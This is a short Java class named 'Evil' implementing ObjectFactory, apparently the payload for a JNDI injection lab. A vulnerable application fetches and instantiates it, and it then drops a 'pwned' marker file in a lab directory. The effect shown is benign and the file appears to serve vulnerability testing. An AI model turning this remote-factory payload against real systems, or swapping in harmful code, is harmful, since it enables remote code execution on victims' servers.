import java.util.Hashtable;
import javax.naming.Context;
import javax.naming.Name;
import javax.naming.spi.ObjectFactory;

/** The factory that the application fetches and starts. */
public class Evil implements ObjectFactory {
  @Override
  public Object getObjectInstance(Object ref, Name name, Context context, Hashtable<?, ?> env)
      throws Exception {
    new java.io.FileOutputStream(System.getProperty("lab.work") + "/pwned").close();
    return "evil";
  }
}
